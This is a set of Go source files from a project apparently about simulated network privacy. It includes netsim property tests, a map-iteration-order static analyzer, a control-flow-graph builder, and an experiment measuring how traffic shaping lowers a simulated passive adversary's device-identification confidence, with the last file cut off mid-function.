	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if got := run([]string{path}, &out); got != 0 {
		t.Fatalf("run = %d, want 0", got)
	}
	if !strings.Contains(out.String(), "WARNING: 9 spans were evicted") {
		t.Errorf("missing eviction warning:\n%s", out.String())
	}
}
