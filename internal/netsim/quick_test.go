package netsim

import (
	"testing"
	"testing/quick"
	"time"

	"xlf/internal/sim"
)

// Property: with loss-free links, every sent packet to an attached node is
// delivered exactly once, and byte accounting matches.
func TestConservationProperty(t *testing.T) {
	f := func(sizes []uint16) bool {
		k := sim.NewKernel(3)
		n := New(k)
		recv := &sink{addr: "lan:recv"}
		if err := n.Attach(&sink{addr: "lan:send"}, DefaultLAN()); err != nil {
			return false
		}
		if err := n.Attach(recv, DefaultLAN()); err != nil {
			return false
		}
		var want uint64
		count := len(sizes)
		if count > 300 {
			count = 300
		}
		for i := 0; i < count; i++ {
			sz := int(sizes[i])%1400 + 1
			want += uint64(sz)
			n.Send(&Packet{Src: "lan:send", Dst: "lan:recv", Size: sz})
		}
		if err := k.Run(10 * time.Minute); err != nil {
			return false
		}
		delivered, dropped, bytes := n.Stats()
		return int(delivered) == count && dropped == 0 && bytes == want && len(recv.got) == count
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

// Property: FlowStats byte totals equal the record byte total, and packet
// counts match, for any record set.
func TestFlowStatsConservation(t *testing.T) {
	f := func(srcs []uint8, sizes []uint8) bool {
		n := len(srcs)
		if len(sizes) < n {
			n = len(sizes)
		}
		var recs []PacketRecord
		total := 0
		for i := 0; i < n; i++ {
			sz := int(sizes[i]) + 1
			total += sz
			recs = append(recs, PacketRecord{
				Time: time.Duration(i) * time.Second,
				Src:  Addr([]string{"lan:a", "lan:b", "lan:c"}[srcs[i]%3]),
				Dst:  "wan:x", DstPort: 443, Proto: "TLS", Size: sz,
			})
		}
		stats := FlowStats(recs)
		gotBytes, gotPkts := 0, 0
		for _, s := range stats {
			gotBytes += s.Bytes
			gotPkts += s.Packets
		}
		return gotBytes == total && gotPkts == n
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}
