package analysis

// MapOrder automates the bug class PR 4 had to find by review:
// System.attest iterated the device map directly into Core.Ingest, so
// two runs of the same seed attested in different orders and the
// replay hashes diverged. The rule finds every `range` over a map in
// the deterministic packages and reports when the iteration's key or
// value escapes in iteration order:
//
//   - appended to a slice that is never sorted afterwards in the same
//     function (a sort.* / slices.* call naming the slice after the
//     loop launders the order, which is exactly the attest fix);
//   - returned from the enclosing function straight out of the loop
//     body — `for k := range m { return k }` picks an arbitrary
//     element. A return nested under an if/switch inside the loop is
//     treated as a guarded search (`if k == want { return v }`) and
//     stays quiet;
//   - passed to a configured sink (trace emits, report-table rows,
//     Core ingestion) whose observable order then depends on map
//     iteration.
//
// The analysis is intraprocedural and object-based (range variables
// are matched by go/types identity, not name). //xlf:allow-maporder on
// the escape site — or on the range statement, covering the whole
// loop — waives a reviewed exception.

import (
	"go/ast"
	"go/types"
)

// AllowMapOrderMarker waives a maporder finding on its line; on the
// range statement's line it waives the whole loop.
const AllowMapOrderMarker = "xlf:allow-maporder"

// MapOrder reports map-iteration order escaping into ordered outputs.
type MapOrder struct {
	// Packages scopes the rule (exact or "prefix/..."), normally the
	// deterministic set.
	Packages []string
	// Sinks are calls whose argument order is observable output.
	Sinks []TaintRef

	graph    *CallGraph
	prepared bool
	sinks    *refMatcher
}

// NewMapOrder builds the analyzer on a shared call graph (nil builds a
// private one; only the graph's type oracle is used).
func NewMapOrder(packages []string, sinks []TaintRef, g *CallGraph) *MapOrder {
	if g == nil {
		g = NewCallGraph()
	}
	return &MapOrder{Packages: packages, Sinks: sinks, graph: g, sinks: newRefMatcher(sinks)}
}

// Name implements Analyzer.
func (m *MapOrder) Name() string { return "maporder" }

// Doc implements Documented.
func (m *MapOrder) Doc() string {
	return "map iteration order must not flow into returns, sinks, or unsorted slice appends in deterministic packages"
}

// Prepare implements ModuleAnalyzer: the shared graph's tolerant
// type-check supplies map types and range-variable identity.
func (m *MapOrder) Prepare(pkgs []*Package) {
	if m.prepared {
		return
	}
	m.prepared = true
	m.graph.Build(pkgs)
}

// Check implements Analyzer.
func (m *MapOrder) Check(pkg *Package) []Finding {
	if !m.prepared {
		m.Prepare([]*Package{pkg})
	}
	if !matchPackages(m.Packages, pkg.ImportPath) {
		return nil
	}
	pt := m.graph.oracle.typesOf(pkg)
	var out []Finding
	for fi := range pkg.Files {
		file := &pkg.Files[fi]
		if file.Test {
			continue
		}
		allowed := allowedLines(pkg.Fset, file.AST, AllowMapOrderMarker)
		imports := importMap(file.AST)
		for _, decl := range file.AST.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			w := &mapOrderWalker{
				m: m, pkg: pkg, pt: pt, imports: imports,
				fn: fd, allowed: allowed,
			}
			ast.Inspect(fd.Body, func(n ast.Node) bool {
				if r, ok := n.(*ast.RangeStmt); ok {
					w.rangeStmt(r)
				}
				return true
			})
			out = append(out, w.out...)
		}
	}
	return out
}

// mapOrderWalker checks the map ranges of one function.
type mapOrderWalker struct {
	m       *MapOrder
	pkg     *Package
	pt      *pkgTypes
	imports map[string]string
	fn      *ast.FuncDecl
	allowed map[int]bool
	out     []Finding
}

func (w *mapOrderWalker) report(pos ast.Node, format string, args ...any) {
	if w.allowed[w.pkg.Fset.Position(pos.Pos()).Line] {
		return
	}
	w.out = append(w.out, w.pkg.finding("maporder", pos.Pos(), format, args...))
}

// rangeStmt checks one `range` statement ranging over a map.
func (w *mapOrderWalker) rangeStmt(r *ast.RangeStmt) {
	if !w.isMap(r.X) {
		return
	}
	if w.allowed[w.pkg.Fset.Position(r.Pos()).Line] {
		return // waiver on the range covers the whole loop
	}
	objs := w.rangeVarObjs(r)
	if len(objs) == 0 {
		return // `for range m {}` observes nothing
	}
	w.walkBody(r, r.Body, objs, 0)
}

// walkBody scans the loop body. guarded counts enclosing if/switch
// nesting inside the loop: a return under a guard is a search, not an
// arbitrary pick. Nested function literals are skipped (their bodies
// run as their own functions).
func (w *mapOrderWalker) walkBody(r *ast.RangeStmt, n ast.Node, objs map[types.Object]string, guarded int) {
	switch n := n.(type) {
	case nil:
		return
	case *ast.FuncLit:
		return
	case *ast.IfStmt:
		w.walkBody(r, n.Body, objs, guarded+1)
		w.walkBody(r, n.Else, objs, guarded+1)
		return
	case *ast.SwitchStmt:
		w.walkBody(r, n.Body, objs, guarded+1)
		return
	case *ast.TypeSwitchStmt:
		w.walkBody(r, n.Body, objs, guarded+1)
		return
	case *ast.SelectStmt:
		w.walkBody(r, n.Body, objs, guarded+1)
		return
	case *ast.ReturnStmt:
		if guarded == 0 {
			for _, res := range n.Results {
				if name, ok := w.refers(res, objs); ok {
					w.report(n, "map iteration order flows into a return value through %s; collect and sort first (or annotate //%s)",
						name, AllowMapOrderMarker)
					break
				}
			}
		}
		return
	case *ast.AssignStmt:
		w.appendStmt(r, n, objs)
		// fall through to scan RHS calls as sinks
	case *ast.CallExpr:
		w.sinkCall(n, objs)
	}
	// Generic recursion over children.
	children(n, func(c ast.Node) {
		w.walkBody(r, c, objs, guarded)
	})
}

// children invokes f over n's immediate AST children.
func children(n ast.Node, f func(ast.Node)) {
	first := true
	ast.Inspect(n, func(c ast.Node) bool {
		if first {
			first = false
			return true
		}
		if c != nil {
			f(c)
		}
		return false
	})
}

// appendStmt flags `dst = append(dst, ...key/value...)` unless dst is
// sorted later in the enclosing function.
func (w *mapOrderWalker) appendStmt(r *ast.RangeStmt, n *ast.AssignStmt, objs map[types.Object]string) {
	for _, rhs := range n.Rhs {
		call, ok := rhs.(*ast.CallExpr)
		if !ok {
			continue
		}
		id, ok := call.Fun.(*ast.Ident)
		if !ok || id.Name != "append" || len(call.Args) < 2 {
			continue
		}
		name := ""
		for _, a := range call.Args[1:] {
			if n, ok := w.refers(a, objs); ok {
				name = n
				break
			}
		}
		if name == "" {
			continue
		}
		dst, haveDst := rootIdent(call.Args[0])
		if haveDst && w.sortedAfter(r, dst) {
			continue
		}
		dstName := "the slice"
		if haveDst {
			dstName = dst.Name
		}
		w.report(call, "map iteration order flows into append to %s through %s with no sort after the loop; sort %s before use (or annotate //%s)",
			dstName, name, dstName, AllowMapOrderMarker)
	}
}

// sinkCall flags configured sink calls taking key/value-derived
// arguments.
func (w *mapOrderWalker) sinkCall(call *ast.CallExpr, objs map[types.Object]string) {
	c, _ := resolveCall(w.pt, w.imports, w.pkg.ImportPath, call)
	if c.name == "" || !w.m.sinks.match(c, w.pkg.ImportPath, w.imports) {
		return
	}
	for _, a := range call.Args {
		if name, ok := w.refers(a, objs); ok {
			w.report(call, "map iteration order flows into sink %s through %s; iterate sorted keys (or annotate //%s)",
				c.String(), name, AllowMapOrderMarker)
			return
		}
	}
}

// sortedAfter reports whether a sorting call naming dst appears after
// the range statement in the enclosing function. A call sorts when it
// targets sort.* / slices.* directly, or a module helper that reaches
// either package through the call graph (sortStrings-style wrappers).
func (w *mapOrderWalker) sortedAfter(r *ast.RangeStmt, dst *ast.Ident) bool {
	dstObj := w.identObj(dst)
	found := false
	ast.Inspect(w.fn.Body, func(n ast.Node) bool {
		if found {
			return false
		}
		call, ok := n.(*ast.CallExpr)
		if !ok || call.Pos() < r.End() {
			return true
		}
		c, _ := resolveCall(w.pt, w.imports, w.pkg.ImportPath, call)
		if !w.isSortCall(c) {
			return true
		}
		for _, a := range call.Args {
			root, ok := rootIdent(a)
			if !ok {
				continue
			}
			if (dstObj != nil && w.identObj(root) == dstObj) || root.Name == dst.Name {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

// isSortCall reports whether the callee launders ordering: the sort
// or slices package itself, or a module function that reaches one of
// them through precisely-resolved call edges.
func (w *mapOrderWalker) isSortCall(c callee) bool {
	if c.pkg == "sort" || c.pkg == "slices" {
		return true
	}
	key, _, ok := w.m.graph.calleeKey(c)
	if !ok {
		return false
	}
	chain := w.m.graph.Chain(key, func(k string) bool {
		pkg := keyPkg(k)
		return pkg == "sort" || pkg == "slices"
	}, func(e CallEdge) bool { return !e.Fallback && e.Kind == EdgeCall })
	return chain != nil
}

// rangeVarObjs collects the range statement's key/value variables as
// type objects; without an oracle entry the loop is skipped (the rule
// needs identity, not names, to avoid shadowing false positives).
func (w *mapOrderWalker) rangeVarObjs(r *ast.RangeStmt) map[types.Object]string {
	objs := make(map[types.Object]string)
	for _, e := range []ast.Expr{r.Key, r.Value} {
		id, ok := e.(*ast.Ident)
		if !ok || id.Name == "_" {
			continue
		}
		if obj := w.identObj(id); obj != nil {
			objs[obj] = id.Name
		}
	}
	return objs
}

// identObj resolves an identifier to its object (Defs first — range
// `:=` variables are definitions — then Uses).
func (w *mapOrderWalker) identObj(id *ast.Ident) types.Object {
	if w.pt == nil {
		return nil
	}
	if obj := w.pt.info.Defs[id]; obj != nil {
		return obj
	}
	return w.pt.info.Uses[id]
}

// refers reports whether expr references one of the range variables,
// returning its name.
func (w *mapOrderWalker) refers(expr ast.Expr, objs map[types.Object]string) (string, bool) {
	name, found := "", false
	ast.Inspect(expr, func(n ast.Node) bool {
		if found {
			return false
		}
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		if obj := w.identObj(id); obj != nil {
			if n, ok := objs[obj]; ok {
				name, found = n, true
				return false
			}
		}
		return true
	})
	return name, found
}

// isMap reports whether e has map type.
func (w *mapOrderWalker) isMap(e ast.Expr) bool {
	if w.pt != nil {
		if tv, ok := w.pt.info.Types[e]; ok && tv.Type != nil {
			_, isMap := tv.Type.Underlying().(*types.Map)
			return isMap
		}
	}
	_, isMapType := e.(*ast.MapType)
	return isMapType
}

var (
	_ ModuleAnalyzer = (*MapOrder)(nil)
	_ Documented     = (*MapOrder)(nil)
)
