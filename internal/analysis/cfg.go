package analysis

// Control-flow graphs over go/ast function bodies. The path-sensitive
// rule families (cryptomisuse, pairing, deadstore) all run on this
// engine: a function body is lowered into basic blocks connected by the
// explicit control-flow edges (if/for/range/switch/select, labeled
// break/continue, goto, return, explicit panic), and the dataflow
// fixpoints in dataflow.go iterate over the block graph.
//
// The builder is deliberately syntactic — it needs no type information,
// so it works on the same tolerant source set every other analyzer uses.
// Function literals are not inlined: a FuncLit is an opaque expression
// in the enclosing graph, and callers that care (deadstore, pairing)
// build a separate CFG per literal via Functions.

import (
	"bytes"
	"fmt"
	"go/ast"
	"go/printer"
	"go/token"
	"strings"
)

// BlockKind labels why a basic block exists; it only affects Dump output
// and debuggability, never the analysis semantics.
type BlockKind string

// Block kinds produced by the builder.
const (
	KindEntry      BlockKind = "entry"
	KindExit       BlockKind = "exit"
	KindBody       BlockKind = "body"
	KindIfThen     BlockKind = "if.then"
	KindIfElse     BlockKind = "if.else"
	KindIfJoin     BlockKind = "if.join"
	KindForHead    BlockKind = "for.head"
	KindForBody    BlockKind = "for.body"
	KindForPost    BlockKind = "for.post"
	KindForJoin    BlockKind = "for.join"
	KindRangeHead  BlockKind = "range.head"
	KindRangeBody  BlockKind = "range.body"
	KindRangeJoin  BlockKind = "range.join"
	KindSwitchCase BlockKind = "switch.case"
	KindSwitchJoin BlockKind = "switch.join"
	KindSelectComm BlockKind = "select.comm"
	KindSelectJoin BlockKind = "select.join"
	KindLabel      BlockKind = "label"
)

// Block is one basic block: a maximal run of straight-line nodes. Nodes
// holds statements and the condition/tag expressions evaluated in the
// block, in execution order.
type Block struct {
	Index int
	Kind  BlockKind
	Nodes []ast.Node
	Succs []*Block
	Preds []*Block

	// Panics marks a block terminated by an explicit panic (or a
	// recognised no-return call like os.Exit): its edge to Exit is a
	// panic edge, which the pairing rules treat differently from a
	// return (only deferred releases run).
	Panics bool
}

// CFG is the control-flow graph of one function body. Blocks[0] is the
// entry; Exit is the unique synthetic exit that every return, panic and
// final fallthrough reaches.
type CFG struct {
	Name   string
	Blocks []*Block
	Exit   *Block

	// Defers lists every deferred call in the body, in source order.
	// Deferred calls run on all exits (including panics), so the pairing
	// engine consults this list before walking paths.
	Defers []*ast.CallExpr
}

// Reachable returns the set of blocks reachable from the entry.
func (g *CFG) Reachable() map[*Block]bool {
	seen := make(map[*Block]bool, len(g.Blocks))
	var walk func(b *Block)
	walk = func(b *Block) {
		if seen[b] {
			return
		}
		seen[b] = true
		for _, s := range b.Succs {
			walk(s)
		}
	}
	if len(g.Blocks) > 0 {
		walk(g.Blocks[0])
	}
	return seen
}

// Function is one analyzable function body: a declaration or a literal.
type Function struct {
	// Name is the declared name, with "(Recv)." prefix for methods and a
	// "$litN" suffix for function literals nested inside Decl.
	Name string
	Decl *ast.FuncDecl // enclosing declaration (also set for literals)
	Lit  *ast.FuncLit  // non-nil for function literals
	Body *ast.BlockStmt
	Type *ast.FuncType
}

// Functions enumerates every function body in a file — each declaration
// and, as separate entries, each function literal nested inside it —
// so path-sensitive rules can analyze closures on their own graphs.
func Functions(f *ast.File) []Function {
	var out []Function
	for _, decl := range f.Decls {
		fd, ok := decl.(*ast.FuncDecl)
		if !ok || fd.Body == nil {
			continue
		}
		name := fd.Name.Name
		if fd.Recv != nil && len(fd.Recv.List) > 0 {
			if recv := recvTypeName(fd.Recv.List[0].Type); recv != "" {
				name = "(" + recv + ")." + name
			}
		}
		out = append(out, Function{Name: name, Decl: fd, Body: fd.Body, Type: fd.Type})
		lit := 0
		ast.Inspect(fd.Body, func(n ast.Node) bool {
			fl, ok := n.(*ast.FuncLit)
			if !ok {
				return true
			}
			out = append(out, Function{
				Name: fmt.Sprintf("%s$lit%d", name, lit),
				Decl: fd, Lit: fl, Body: fl.Body, Type: fl.Type,
			})
			lit++
			return true
		})
	}
	return out
}

// BuildCFG lowers one function body into a control-flow graph.
func BuildCFG(name string, body *ast.BlockStmt) *CFG {
	b := &cfgBuilder{cfg: &CFG{Name: name}}
	entry := b.newBlock(KindEntry)
	b.cfg.Exit = b.newBlock(KindExit)
	b.cur = entry
	b.stmtList(body.List)
	if b.cur != nil {
		b.edge(b.cur, b.cfg.Exit)
	}
	b.resolveGotos()
	for _, blk := range b.cfg.Blocks {
		for _, s := range blk.Succs {
			s.Preds = append(s.Preds, blk)
		}
	}
	return b.cfg
}

// cfgBuilder carries the construction state: the current block (nil when
// the previous statement terminated control flow) plus the break,
// continue and label targets in scope.
type cfgBuilder struct {
	cfg *CFG
	cur *Block

	// loops is the enclosing breakable/continuable scope stack.
	loops []loopScope
	// labelBlocks maps a label name to its statement's head block, for
	// goto resolution (labels can be referenced before declaration).
	labelBlocks map[string]*Block
	// pendingGotos are goto statements seen before their label.
	pendingGotos []pendingGoto
	// pendingLabel threads the label of a LabeledStmt to the loop or
	// switch statement it wraps, so `L: for { break L }` resolves.
	pendingLabel string
}

type loopScope struct {
	label      string
	breakTo    *Block // nil for scopes that only catch labeled break (none)
	continueTo *Block // nil for switch/select scopes
	fallTo     *Block
}

type pendingGoto struct {
	from  *Block
	label string
}

func (b *cfgBuilder) newBlock(kind BlockKind) *Block {
	blk := &Block{Index: len(b.cfg.Blocks), Kind: kind}
	b.cfg.Blocks = append(b.cfg.Blocks, blk)
	return blk
}

func (b *cfgBuilder) edge(from, to *Block) {
	for _, s := range from.Succs {
		if s == to {
			return
		}
	}
	from.Succs = append(from.Succs, to)
}

// add appends a node to the current block, opening a fresh one when the
// previous statement terminated flow (such trailing blocks stay
// predecessor-less, which is exactly what the unreachable rule reports).
func (b *cfgBuilder) add(n ast.Node) {
	if b.cur == nil {
		b.cur = b.newBlock(KindBody)
	}
	b.cur.Nodes = append(b.cur.Nodes, n)
}

func (b *cfgBuilder) stmtList(list []ast.Stmt) {
	for _, s := range list {
		b.stmt(s)
	}
}

// stmt lowers one statement.
func (b *cfgBuilder) stmt(s ast.Stmt) {
	switch s := s.(type) {
	case *ast.BlockStmt:
		b.stmtList(s.List)

	case *ast.IfStmt:
		if s.Init != nil {
			b.add(s.Init)
		}
		b.add(s.Cond)
		cond := b.cur
		join := b.newBlock(KindIfJoin)

		then := b.newBlock(KindIfThen)
		b.edge(cond, then)
		b.cur = then
		b.stmtList(s.Body.List)
		if b.cur != nil {
			b.edge(b.cur, join)
		}

		if s.Else != nil {
			els := b.newBlock(KindIfElse)
			b.edge(cond, els)
			b.cur = els
			b.stmt(s.Else)
			if b.cur != nil {
				b.edge(b.cur, join)
			}
		} else {
			b.edge(cond, join)
		}
		b.cur = join

	case *ast.ForStmt:
		if s.Init != nil {
			b.add(s.Init)
		}
		head := b.newBlock(KindForHead)
		if b.cur != nil {
			b.edge(b.cur, head)
		}
		if s.Cond != nil {
			head.Nodes = append(head.Nodes, s.Cond)
		}
		join := b.newBlock(KindForJoin)
		post := head
		if s.Post != nil {
			post = b.newBlock(KindForPost)
			post.Nodes = append(post.Nodes, s.Post)
			b.edge(post, head)
		}

		body := b.newBlock(KindForBody)
		b.edge(head, body)
		if s.Cond != nil {
			b.edge(head, join) // condition may be false on entry
		}
		b.pushLoop(loopScope{label: b.takeLabel(s), breakTo: join, continueTo: post})
		b.cur = body
		b.stmtList(s.Body.List)
		if b.cur != nil {
			b.edge(b.cur, post)
		}
		b.popLoop()
		b.cur = join

	case *ast.RangeStmt:
		head := b.newBlock(KindRangeHead)
		if b.cur != nil {
			b.edge(b.cur, head)
		}
		head.Nodes = append(head.Nodes, s)
		join := b.newBlock(KindRangeJoin)
		body := b.newBlock(KindRangeBody)
		b.edge(head, body)
		b.edge(head, join) // the range may be empty

		b.pushLoop(loopScope{label: b.takeLabel(s), breakTo: join, continueTo: head})
		b.cur = body
		b.stmtList(s.Body.List)
		if b.cur != nil {
			b.edge(b.cur, head)
		}
		b.popLoop()
		b.cur = join

	case *ast.SwitchStmt:
		b.switchStmt(s.Init, s.Tag, s.Body, b.takeLabel(s))

	case *ast.TypeSwitchStmt:
		var tag ast.Node = s.Assign
		b.switchStmtNode(s.Init, tag, s.Body, b.takeLabel(s))

	case *ast.SelectStmt:
		head := b.cur
		if head == nil {
			head = b.newBlock(KindBody)
			b.cur = head
		}
		join := b.newBlock(KindSelectJoin)
		b.pushLoop(loopScope{label: b.takeLabel(s), breakTo: join})
		anyComm := false
		for _, c := range s.Body.List {
			cc, ok := c.(*ast.CommClause)
			if !ok {
				continue
			}
			anyComm = true
			blk := b.newBlock(KindSelectComm)
			b.edge(head, blk)
			if cc.Comm != nil {
				blk.Nodes = append(blk.Nodes, cc.Comm)
			}
			b.cur = blk
			b.stmtList(cc.Body)
			if b.cur != nil {
				b.edge(b.cur, join)
			}
		}
		b.popLoop()
		if !anyComm {
			// select{} blocks forever: no edge to join.
			b.edge(head, b.cfg.Exit)
		}
		b.cur = join

	case *ast.LabeledStmt:
		head := b.newBlock(KindLabel)
		if b.cur != nil {
			b.edge(b.cur, head)
		}
		b.cur = head
		if b.labelBlocks == nil {
			b.labelBlocks = make(map[string]*Block)
		}
		b.labelBlocks[s.Label.Name] = head
		// Loop/switch statements consume the label for break/continue
		// targeting via takeLabel (the label is re-discovered there).
		b.pendingLabel = s.Label.Name
		b.stmt(s.Stmt)
		b.pendingLabel = ""

	case *ast.BranchStmt:
		b.add(s)
		switch s.Tok {
		case token.BREAK:
			if t := b.findScope(s.Label, true); t != nil {
				b.edge(b.cur, t)
			} else {
				b.edge(b.cur, b.cfg.Exit) // malformed; stay safe
			}
			b.cur = nil
		case token.CONTINUE:
			if t := b.findScope(s.Label, false); t != nil {
				b.edge(b.cur, t)
			} else {
				b.edge(b.cur, b.cfg.Exit)
			}
			b.cur = nil
		case token.GOTO:
			name := ""
			if s.Label != nil {
				name = s.Label.Name
			}
			if t, ok := b.labelBlocks[name]; ok {
				b.edge(b.cur, t)
			} else {
				b.pendingGotos = append(b.pendingGotos, pendingGoto{b.cur, name})
			}
			b.cur = nil
		case token.FALLTHROUGH:
			if t := b.fallthroughTarget(); t != nil {
				b.edge(b.cur, t)
			}
			b.cur = nil
		}

	case *ast.ReturnStmt:
		b.add(s)
		b.edge(b.cur, b.cfg.Exit)
		b.cur = nil

	case *ast.DeferStmt:
		b.add(s)
		b.cfg.Defers = append(b.cfg.Defers, s.Call)

	case *ast.ExprStmt:
		b.add(s)
		if isNoReturnCall(s.X) {
			b.cur.Panics = true
			b.edge(b.cur, b.cfg.Exit)
			b.cur = nil
		}

	case *ast.EmptyStmt:
		// nothing

	default:
		// Assignments, declarations, go/send/inc-dec: straight-line.
		b.add(s)
	}
}

// switchStmt lowers an expression switch.
func (b *cfgBuilder) switchStmt(init ast.Stmt, tag ast.Expr, body *ast.BlockStmt, label string) {
	var tagNode ast.Node
	if tag != nil {
		tagNode = tag
	}
	b.switchStmtNode(init, tagNode, body, label)
}

// switchStmtNode is the shared lowering for expression and type
// switches. Each case body becomes a block reachable from the head;
// fallthrough chains a case into the next one's body.
func (b *cfgBuilder) switchStmtNode(init ast.Stmt, tag ast.Node, body *ast.BlockStmt, label string) {
	if init != nil {
		b.add(init)
	}
	if tag != nil {
		b.add(tag)
	}
	head := b.cur
	if head == nil {
		head = b.newBlock(KindBody)
		b.cur = head
	}
	join := b.newBlock(KindSwitchJoin)

	// Pre-create case blocks so fallthrough can target the next one.
	var clauses []*ast.CaseClause
	for _, c := range body.List {
		if cc, ok := c.(*ast.CaseClause); ok {
			clauses = append(clauses, cc)
		}
	}
	blocks := make([]*Block, len(clauses))
	hasDefault := false
	for i, cc := range clauses {
		blocks[i] = b.newBlock(KindSwitchCase)
		b.edge(head, blocks[i])
		if cc.List == nil {
			hasDefault = true
		}
	}
	if !hasDefault {
		b.edge(head, join)
	}
	for i, cc := range clauses {
		var ft *Block
		if i+1 < len(blocks) {
			ft = blocks[i+1]
		}
		b.pushLoop(loopScope{label: label, breakTo: join, fallTo: ft})
		b.cur = blocks[i]
		for _, e := range cc.List {
			blocks[i].Nodes = append(blocks[i].Nodes, e)
		}
		b.stmtList(cc.Body)
		if b.cur != nil {
			b.edge(b.cur, join)
		}
		b.popLoop()
	}
	b.cur = join
}

func (b *cfgBuilder) pushLoop(s loopScope) { b.loops = append(b.loops, s) }
func (b *cfgBuilder) popLoop()             { b.loops = b.loops[:len(b.loops)-1] }

// takeLabel consumes the label attached to the statement being lowered.
func (b *cfgBuilder) takeLabel(ast.Stmt) string {
	l := b.pendingLabel
	b.pendingLabel = ""
	return l
}

// findScope resolves a break (wantBreak) or continue target.
func (b *cfgBuilder) findScope(label *ast.Ident, wantBreak bool) *Block {
	name := ""
	if label != nil {
		name = label.Name
	}
	for i := len(b.loops) - 1; i >= 0; i-- {
		s := b.loops[i]
		if name != "" && s.label != name {
			continue
		}
		if wantBreak {
			if s.breakTo != nil {
				return s.breakTo
			}
		} else if s.continueTo != nil {
			return s.continueTo
		}
		if name != "" {
			return nil // labeled the wrong kind of statement
		}
	}
	return nil
}

func (b *cfgBuilder) fallthroughTarget() *Block {
	for i := len(b.loops) - 1; i >= 0; i-- {
		if b.loops[i].fallTo != nil {
			return b.loops[i].fallTo
		}
	}
	return nil
}

func (b *cfgBuilder) resolveGotos() {
	for _, g := range b.pendingGotos {
		if t, ok := b.labelBlocks[g.label]; ok {
			b.edge(g.from, t)
		} else {
			b.edge(g.from, b.cfg.Exit) // undeclared label; malformed source
		}
	}
}

// isNoReturnCall reports whether expr is an explicit panic or one of the
// recognised process-terminating calls (os.Exit, log.Fatal*). The check
// is syntactic; a shadowed `panic` identifier would be misread, which is
// acceptable for a linter.
func isNoReturnCall(expr ast.Expr) bool {
	call, ok := expr.(*ast.CallExpr)
	if !ok {
		return false
	}
	switch fun := call.Fun.(type) {
	case *ast.Ident:
		return fun.Name == "panic"
	case *ast.SelectorExpr:
		recv, ok := fun.X.(*ast.Ident)
		if !ok {
			return false
		}
		if recv.Name == "os" && fun.Sel.Name == "Exit" {
			return true
		}
		if recv.Name == "log" && strings.HasPrefix(fun.Sel.Name, "Fatal") {
			return true
		}
	}
	return false
}

// Dump renders the graph in a stable textual form for golden tests and
// debugging: one line per block with kind, terminator flag and successor
// list, then one indented line per node.
func (g *CFG) Dump(fset *token.FileSet) string {
	var buf bytes.Buffer
	fmt.Fprintf(&buf, "func %s\n", g.Name)
	for _, blk := range g.Blocks {
		fmt.Fprintf(&buf, "b%d (%s)", blk.Index, blk.Kind)
		if blk.Panics {
			buf.WriteString(" panics")
		}
		buf.WriteString(" ->")
		if len(blk.Succs) == 0 {
			buf.WriteString(" .")
		}
		for _, s := range blk.Succs {
			fmt.Fprintf(&buf, " b%d", s.Index)
		}
		buf.WriteByte('\n')
		for _, n := range blk.Nodes {
			fmt.Fprintf(&buf, "\t%s\n", nodeText(fset, n))
		}
	}
	return buf.String()
}

// nodeText renders one AST node as a single line of source.
func nodeText(fset *token.FileSet, n ast.Node) string {
	var buf bytes.Buffer
	cfg := printer.Config{Mode: printer.RawFormat}
	if err := cfg.Fprint(&buf, fset, n); err != nil {
		return fmt.Sprintf("<%T>", n)
	}
	s := buf.String()
	s = strings.ReplaceAll(s, "\n", " ")
	s = strings.ReplaceAll(s, "\t", "")
	if len(s) > 120 {
		s = s[:117] + "..."
	}
	return s
}
