package main

import (
	"fmt"
	"os"

	"xlf/internal/exp"
)

func main() {
	e, ok := exp.Lookup("E9")
	if !ok {
		fmt.Fprintln(os.Stderr, "probe: registry lost E9")
		os.Exit(1)
	}
	fmt.Println(e.Run(exp.NewEnv(1)))
}
