package exp

import (
	"fmt"
	"time"

	"xlf/internal/metrics"
	"xlf/internal/netsim"
	"xlf/internal/shaping"
	"xlf/internal/sim"
)

// runE2 sweeps traffic-shaping intensity and reports the passive
// adversary's device-identification confidence and event-inference
// precision/recall against the bandwidth overhead and added latency — the
// §IV-B1 trade-off curve.
//
// It is the E2 registry entry. Each intensity level builds its own
// simulated home from the seed, so the grid fans out across env.Workers.
func runE2(env *Env) *Result {
	r := &Result{ID: "E2", Title: "Traffic shaping: adversary confidence vs bandwidth overhead"}
	t := metrics.NewTable("", "Intensity", "Mode", "IdentConf", "EventPrec", "EventRecall", "Overhead", "MeanDelay")

	intensities := []float64{0, 0.2, 0.5, 0.7, 0.85, 1.0}
	rows := Sweep(env, len(intensities), func(i int, env *Env) e2Row {
		return e2Point(env.Seed, intensities[i])
	})
	for i, intensity := range intensities {
		row := rows[i]
		t.AddRow(
			fmt.Sprintf("%.2f", intensity), row.mode,
			fmt.Sprintf("%.2f", row.identConf),
			fmt.Sprintf("%.2f", row.prec),
			fmt.Sprintf("%.2f", row.recall),
			fmt.Sprintf("%.2f", row.overhead),
			row.meanDelay.Truncate(time.Millisecond).String(),
		)
		r.num(fmt.Sprintf("recall_%.2f", intensity), row.recall)
		r.num(fmt.Sprintf("overhead_%.2f", intensity), row.overhead)
		r.num(fmt.Sprintf("ident_%.2f", intensity), row.identConf)
	}
	r.Output = t.String() +
		"\nExpected shape: identification confidence and event recall fall as intensity\n" +
		"rises; overhead and latency are the price (rate equalisation flattens bursts).\n"
	return r
}

type e2Row struct {
	mode      string
	identConf float64
	prec      float64
	recall    float64
	overhead  float64
	meanDelay time.Duration
}

// e2Point builds a camera home with ground-truth events and measures the
// adversary at one shaping level.
func e2Point(seed int64, intensity float64) e2Row {
	k := sim.NewKernel(seed)
	n := netsim.New(k)
	gw := netsim.NewGateway("lan:gw", "wan:home")
	cfg := shaping.Level(intensity)
	sh := shaping.New(k, cfg)
	if cfg.Mode != shaping.ModeOff {
		gw.Shaper = sh.GatewayHook()
	}
	wanCap := netsim.NewCapture()

	mustAttach := func(node netsim.Node, l netsim.Link) {
		if err := n.Attach(node, l); err != nil {
			panic(err)
		}
	}
	mustAttach(gw, netsim.DefaultLAN())
	mustAttach(gw.WANNode(), netsim.DefaultWAN())
